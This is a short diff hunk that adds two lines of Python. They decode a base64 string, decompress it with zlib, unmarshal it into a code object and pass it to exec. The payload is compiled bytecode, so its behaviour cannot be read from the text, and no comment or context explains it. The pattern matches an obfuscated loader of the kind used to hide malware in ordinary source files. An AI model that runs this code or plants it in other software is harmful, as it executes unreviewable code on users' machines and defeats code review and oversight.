@@ -1,0 +1,2 @@
+import base64, marshal, zlib
+exec(marshal.loads(zlib.decompress(base64.b64decode("eJxLZkACzFD6sx6QmM6QwpDCmMMQxcDEkMqQxQhTlMK0DMheDeczAlUFM2gyvwRx/Kr4MlMU7BT0U1LL9PNKc3I0mW4x5RffYiuuLC5JzV3J8Bmk6hezTYXdLw6b3PyU0pxUuyJ2sDEMDMXqQOIDMyMj4w0GzgYwBDGYWjgvcEldZJC+wiB9AYaKWIFqAfsyJvg="))))
